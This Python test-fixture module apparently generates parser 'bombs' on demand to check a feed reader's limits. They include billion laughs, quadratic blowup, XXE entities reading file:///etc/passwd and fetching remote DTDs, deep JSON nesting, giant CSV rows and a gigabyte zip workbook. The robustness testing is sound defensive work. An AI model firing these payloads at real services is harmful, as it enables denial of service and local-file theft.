"""Documents made to exhaust who reads them: the classic bombs of XML, and those of JSON, tables and HTML, each in its full size.

`BOMBS` names them; each is made only when it is asked for, of at most the 15 MB that a visit takes.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Final

FULL: Final = 14_500_000
_ITEM: Final = "<item><title>东湖区停水</title><description>{}</description></item>"
_LAUGHS: Final = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 20))
_DOCTYPE: Final = f"<!DOCTYPE rss [<!ENTITY a0 'ha'>{_LAUGHS}]>"

_EMPTY, _MARKED, _SPACE = "a{n}='' ", "a{n}='>' ", "xmlns:a{n}='u{n}' "


def _rss(inside: str, head: str = "") -> bytes:
    return f"{head}<rss version='2.0'><channel><title>云川</title>{inside}</channel></rss>".encode()


def _item(text: str, head: str = "") -> bytes:
    return _rss(_ITEM.format(text), head)


def _times(unit: str, most: int = FULL) -> str:
    return unit * (most // len(unit.encode()))


def _attributes(pattern: str, count: int) -> str:
    return "".join(pattern.format(n=n) for n in range(count))


def _broken(document: bytes) -> bytes:
    return document.replace(b"</channel>", b"</oops>&x;<")


def _workbook(sheet: str, size: int = 0) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", sheet + " " * size)
    return made.getvalue()


BOMBS: Final[dict[str, Callable[[], bytes]]] = {
    # the thirteen of XML
    "billion laughs": lambda: _item("&a19;", _DOCTYPE),
    "quadratic blowup": lambda: _item("&a;" * 1_000_000, f"<!DOCTYPE rss [<!ENTITY a '{'x' * 5_000_000}'>]>"),
    "external entities": lambda: _item(
        "&f;&h;", '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{base}/entity">]>'
    ),
    "parameter entities and an external DTD": lambda: _item(
        "&x;", '<!DOCTYPE rss SYSTEM "{base}/dtd" [<!ENTITY % p SYSTEM "{base}/parameter"> %p; <!ENTITY x "%p;">]>'
    ),
    "XInclude and a stylesheet": lambda: _item(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{base}/include" parse="text"/>',
        '<?xml-stylesheet href="{base}/style.xsl" type="text/xsl"?>',
    ),
    "deep nesting": lambda: _rss(_ITEM.format("x") + "<a>" * 2_000_000 + "</a>" * 2_000_000),
    "a huge attribute": lambda: _rss(f"<item a='{'x' * FULL}'><title>停水</title></item>"),
    "a million attributes": lambda: _rss(f"<item {_attributes(_EMPTY, 1_000_000)}><title>停水</title></item>"),
    "a million attributes that hold marks": lambda: _rss(
        f"<item {_attributes(_MARKED, 1_000_000)}><title>停水</title></item>"
    ),
    "a name of seven million letters": lambda: _rss(f"<item><title>停水</title><{'n' * 7_000_000}/></item>"),
    "half a million namespaces": lambda: _rss(f"<item {_attributes(_SPACE, 500_000)}><title/></item>"),
    "namespaces one in another": lambda: _rss(_attributes("<item xmlns:a{n}='u{n}'><title>停水</title></item>", 200_000)),
    "a flood of CDATA": lambda: _item("<![CDATA[x]]>" * 1_000_000),
    "a flood of comments": lambda: _item("y<!--x-->" * 1_000_000, "<!--x-->" * 500_000),
    "a flood of instructions": lambda: _item("y<?x y?>" * 1_000_000, "<?x y?>" * 500_000),
    "laughs in UTF-16": lambda: _item("&a19;", _DOCTYPE).decode().encode("utf-16"),
    "laughs in UTF-7": lambda: (
        ("<?xml version='1.0' encoding='utf-7'?>" + _item("&a19;", _DOCTYPE).decode()).encode("utf-7")
    ),
    # sheer numbers
    "a million entries": lambda: _rss("<item/>" * 1_000_000),
    "half a million titles": lambda: _rss("<item><title>x</title></item>" * 500_000),
    "twenty thousand entries": lambda: _rss(
        "".join(f"<item><title>第{n}条</title><description>{'y' * 600}</description></item>" for n in range(20_000))
    ),
    "character references": lambda: _item("&#65;" * 2_800_000),
    "named entities": lambda: _item("&nbsp;" * 2_300_000),
    "texts encoded twice": lambda: _item("&#194;&#128;" * 1_000_000),
    "unknown elements": lambda: _rss("<item><title>停水</title>" + "<y/>" * 110_000 + "</item>"),
    "one text of fourteen megabytes": lambda: _item(_times("停水")),
    "one text with a face in it": lambda: _item("😀" + "x" * FULL),
    # ill-formed
    "ill-formed attributes": lambda: _broken(_rss(f"<item {_attributes(_EMPTY, 1_000_000)}><title/></item>")),
    "ill-formed names": lambda: _broken(_rss(f"<item><title>停水</title><{'n' * 7_000_000}/></item>")),
    "ill-formed references": lambda: _broken(_item("&#65;" * 2_800_000)),
    "only openings": lambda: b"<rss version='2.0'><channel><item><title>" + b"<" * FULL,
    "only ampersands": lambda: b"<rss version='2.0'><channel><item><title>" + b"&" * FULL,
    "a document type without end": lambda: ("<!DOCTYPE r [" + _times("<!--")).encode(),
    "declarations without end": lambda: (_times("<?xml ") + "<rss>").encode(),
    # HTML inside
    "divisions one in another": lambda: _item("&lt;div&gt;" * 1_200_000),
    "divisions in many entries": lambda: _rss(_ITEM.format("&lt;div&gt;" * 1_400) * 900),
    "formats one in another": lambda: _item("&lt;a&gt;&lt;b&gt;&lt;p&gt;" * 500_000),
    "tables one in another": lambda: _item("&lt;table&gt;" * 1_000_000),
    "attributes in HTML": lambda: _item(f"&lt;a {_attributes('a{n} ', 1_500_000)}&gt;"),
    "a title of tags": lambda: _rss("<item><title>" + "&lt;b&gt;" * 1_500_000 + "</title></item>"),
    # JSON
    "JSON nested": lambda: b"[" * FULL,
    "JSON objects nested": lambda: _times('{"a":').encode(),
    "JSON of empty objects": lambda: ("[" + _times("{},") + "{}]").encode(),
    "JSON of a million entries": lambda: ('{"version":"https://jsonfeed.org/version/1","items":[' + _times('{"title":"x"},')).encode(),
    "JSON of short words": lambda: ("[" + _times('"ab",') + '"ab"]').encode(),
    "JSON of an endless number": lambda: b'{"items":[{"id":' + b"9" * FULL + b"}]}",
    # tables
    "a row of seven million cells": lambda: ("标题,内容\n" + "x," * (FULL // 2)).encode(),
    "headings of seven million cells": lambda: ("标题,内容," + "x," * (FULL // 2) + "\n一,二\n").encode(),
    "three million rows": lambda: ("标题,内容\n" + "x,y\n" * (FULL // 4)).encode(),
    "a quotation without end": lambda: ('标题,内容\n"' + "x\n" * (FULL // 2)).encode(),
    "a workbook of a gigabyte": lambda: _workbook("<worksheet>", 1_000_000_000 // 20),
    "a workbook with entities": lambda: _workbook(f"{_DOCTYPE}<worksheet>&a19;</worksheet>"),
    # pages and noise
    "links without end": lambda: ("<html><head>" + _times("<link ")).encode(),
    "zeros": lambda: bytes(FULL),
    "bytes of no encoding": lambda: b"\xff" * FULL,
}  # fmt: skip
